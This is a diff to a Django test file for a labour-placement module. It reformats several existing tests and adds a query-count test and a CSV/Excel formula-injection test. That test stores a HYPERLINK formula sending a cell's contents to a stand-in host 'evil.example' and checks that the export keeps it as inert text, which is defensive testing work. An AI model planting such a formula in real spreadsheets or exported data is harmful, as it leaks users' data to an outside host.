@@ -10,7 +10,7 @@ from django.urls import reverse
 from tests.labour.conftest import TODAY, posting_in
 from xiezuo.labour import services
 from xiezuo.labour.choices import MatchState
-from xiezuo.labour.models import Match
+from xiezuo.labour.models import Match, Worker
 
 
 def test_county_page_lists_and_bulk_accepts(client, members, county_user, suzhou_reporter, pairs):
@@ -97,7 +97,7 @@ def test_index_charts_placements_and_stability_by_month(client, members, county_
     assert chart["on_job"][-1] == 1
     # Each placement says how long it has lasted.
     rows = text.split('data-testid="labour-placements"')[1]
-    assert "<td>4</td><td>是</td><td><span class=\"muted\">未满</span></td>" in rows
+    assert '<td>4</td><td>是</td><td><span class="muted">未满</span></td>' in rows
 
 
 def _months_back(day: datetime.date, n: int) -> datetime.date:
@@ -202,7 +202,9 @@ def test_a_viewer_sees_no_posting_form_and_may_not_post(client, other_county_use
     from xiezuo.labour.models import Posting
 
     client.force_login(other_county_user)  # viewer only
-    assert 'data-testid="labour-posting-new"' not in client.get(reverse("web:labour")).content.decode()
+    assert (
+        'data-testid="labour-posting-new"' not in client.get(reverse("web:labour")).content.decode()
+    )
     response = client.post(reverse("web:labour_posting_new"), {**POSTING, "east_unit": "520602"})
     assert response.status_code == 403
     assert not Posting.objects.exists()
@@ -299,7 +301,6 @@ def _training(*, worker_number: str) -> None:
     """A training 吴中 reported for its county partner 沿河, listing the worker as a trainee."""
     from tests.factories import UserFactory
     from xiezuo.cooperation import services as cooperation
-    from xiezuo.pairing import services as pairing_services
     from xiezuo.regions.models import Region
 
     wuzhong = Region.objects.get(code="320506")
@@ -311,7 +312,12 @@ def _training(*, worker_number: str) -> None:
         pairing=pairing,
         reporter=wuzhong,
         year=2020,
-        raw={"date": "2020-05-10", "training_kind": "贫困劳动力", "title": "沿河家政培训", "days": "5"},
+        raw={
+            "date": "2020-05-10",
+            "training_kind": "贫困劳动力",
+            "title": "沿河家政培训",
+            "days": "5",
+        },
         people=[cooperation.PersonIn("人1", worker_number)],
     )
 
@@ -358,7 +364,10 @@ def _sheet(response):  # type: ignore[no-untyped-def]
 
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    return [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
+    return [
+        list(r)
+        for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
+    ]
 
 
 def test_every_list_exports_what_the_page_lists(
@@ -403,3 +412,50 @@ def test_every_list_exports_what_the_page_lists(
     client.force_login(other_county_user)
     for name in ("workers", "matches", "placements"):
         assert len(_sheet(client.get(reverse(f"web:labour_{name}_xlsx")))) == 1, name
+
+
+def test_a_formula_typed_as_an_employer_exports_as_text(client, suzhou_reporter, pairs):
+    import io
+
+    from openpyxl import load_workbook
+
+    link = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+    services.posting_create(actor=suzhou_reporter, data=posting_in(employer=link))
+    client.force_login(suzhou_reporter)
+    response = client.get(reverse("web:labour_postings_xlsx"))
+    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
+    assert (cell.value, cell.data_type) == (link, "s")
+
+
+def test_the_index_reads_in_a_fixed_number_of_queries(client, members, county_user):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    from tests.labour.conftest import placement_in
+
+    services.workers_sync(actor=county_user, region_code="520627", today=TODAY)
+    services.placement_create(
+        actor=None, data=placement_in(_number(1), start=datetime.date(2020, 1, 1))
+    )
+    services.employment_set(
+        actor=None, worker=Worker.objects.get(name="人1"), year=2020, quarter=1, status="employed"
+    )
+    client.force_login(county_user)
+    client.get(reverse("web:labour"))
+    with CaptureQueriesContext(connection) as one:
+        client.get(reverse("web:labour"))
+    born = datetime.date(1985, 5, 5)
+    for k in range(4):
+        services.placement_create(
+            actor=None,
+            data=placement_in(
+                _number(2, born), person_name="人2", start=datetime.date(2020, 2 + k, 1)
+            ),
+        )
+        services.employment_set(
+            actor=None, worker=Worker.objects.get(name="人2"), year=2020, quarter=1 + k % 4,
+            status="employed",
+        )  # fmt: skip
+    with CaptureQueriesContext(connection) as five:
+        client.get(reverse("web:labour"))
+    assert len(five) == len(one)
